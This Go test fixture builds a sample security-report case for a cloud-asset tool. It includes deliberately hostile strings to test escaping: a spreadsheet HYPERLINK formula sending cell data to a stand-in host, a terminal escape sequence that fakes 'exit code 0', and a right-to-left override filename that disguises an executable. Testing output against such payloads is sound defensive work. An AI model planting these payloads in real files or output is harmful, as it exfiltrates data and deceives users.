// Package reporttest makes one rich sample for the tests of reports: a judged
// case of a fictional company in which every standing, severity, state of
// findings and state of coverage occurs, every field of a document is set
// somewhere, and names and messages are as hostile as strangers can make them.
// Only tests use it.
package reporttest

import (
	"math/rand/v2"
	"testing"
	"time"

	"github.com/estray/estray/findings"
	"github.com/estray/estray/findings/report"
	"github.com/estray/estray/inventory"
	"github.com/estray/estray/inventory/registry"
)

// Text that acts where it is not made safe. Formula is the name of an asset,
// Escape and Bidi stand in messages.
const (
	Formula = `=HYPERLINK("https://collect.example/?q="&A1,"open")`
	Escape  = "\x1b]0;owned\a\x1b[2J\r\nexit code 0"
	Bidi    = "invoice\u202egpj.exe\u2066"
)

// Now is the clock of the sample.
func Now() time.Time { return time.Date(2026, 3, 10, 8, 30, 0, 0, time.UTC) }

// Input is what the sample document is built from.
func Input(t testing.TB) report.Input { return newSample().input(t) }

// Document is the sample, built.
func Document(t testing.TB) *report.Document { return report.Build(Input(t)) }

// Empty is the input of a run that read nothing and found nothing.
func Empty() report.Input {
	return report.Input{
		Case: &findings.Case{View: inventory.NewView(Now(), nil, nil), Now: Now()},
		Tool: report.Tool{Name: "estray"}, Run: report.Run{Now: Now()},
	}
}

// Shuffled is the same input with everything whose order means nothing in
// another order, chosen by the seed.
func Shuffled(t testing.TB, seed uint64) report.Input {
	s := newSample()
	r := rand.New(rand.NewPCG(seed, seed))
	shuffle(r, s.assets)
	shuffle(r, s.permits)
	shuffle(r, s.readings)
	shuffle(r, s.lives)
	shuffle(r, s.silences)
	shuffle(r, s.rules)
	shuffle(r, s.deployments)
	return s.input(t)
}

func shuffle[T any](r *rand.Rand, all []T) {
	r.Shuffle(len(all), func(i, j int) { all[i], all[j] = all[j], all[i] })
}

// sample is the facts and judgements, in no order.
type sample struct {
	assets      []inventory.Asset
	permits     []inventory.Permit
	verdicts    map[inventory.AssetID]findings.Verdict
	readings    []inventory.Coverage
	lives       []report.Life
	silences    []findings.Silence
	rules       []findings.Rule
	deployments []report.Deployments
}

func newSample() *sample {
	s := &sample{verdicts: map[inventory.AssetID]findings.Verdict{}}
	s.addAssets()
	s.addStrangers()
	s.permits = permits()
	s.readings = readings()
	s.lives = append(openFindings(), quietFindings()...)
	s.lives = append(s.lives, coverageFindings()...)
	s.silences = silences()
	s.rules = []findings.Rule{
		{ID: "REC-01", Title: "Asset nobody answers for", Severity: findings.High},
		{ID: "AWS-08", Title: "Function URL without authorisation", Severity: findings.High},
		{ID: "AWS-09", Title: "Policy opened to everyone", Severity: findings.Medium},
		{ID: "AWS-30", Title: "Identity may take over the account", Severity: findings.High, State: findings.MissingCapability},
		{ID: "AWS-39", Title: "Log group without retention", Severity: findings.Low, State: findings.Disabled},
	}
	s.deployments = []report.Deployments{
		{Day: "2026-03-08", Provider: "aws", Count: 3}, {Day: "2026-03-09", Provider: "aws", Count: 12},
		{Day: "2026-03-09", Provider: "cloudflare", Count: 1},
	}
	return s
}

func (s *sample) input(t testing.TB) report.Input {
	t.Helper()
	reg, err := registry.New(registry.Content{BlindSpots: []registry.BlindSpot{{
		Provider: inventory.AWS, Account: Staging, Region: "ap-southeast-1", Reason: "the region is being closed, SEC-88",
		By: "j.doe@example.com", Expires: Now().AddDate(0, 2, 0),
	}}})
	if err != nil {
		t.Fatal(err)
	}
	view := inventory.NewView(Now(), s.assets, s.readings)
	view.Permits = s.permits
	return report.Input{
		Case:     &findings.Case{View: view, Registry: reg, RegistryRead: true, Verdicts: s.verdicts, Now: Now()},
		Findings: s.lives, Silences: s.silences, Rules: s.rules,
		Tool:        report.Tool{Name: "estray", Version: "0.1.0"},
		Run:         report.Run{ID: "20260310T082100Z-7f3a", Started: Now().Add(-9 * time.Minute), Finished: Now().Add(-8*time.Minute - 11*time.Second), Now: Now()},
		Policy:      report.Policy{FailOn: findings.High},
		Deployments: s.deployments,
		Notes:       []string{"the last run was killed; what it had stored is kept and was read on from there", "the registry has a warning: " + Escape},
	}
}
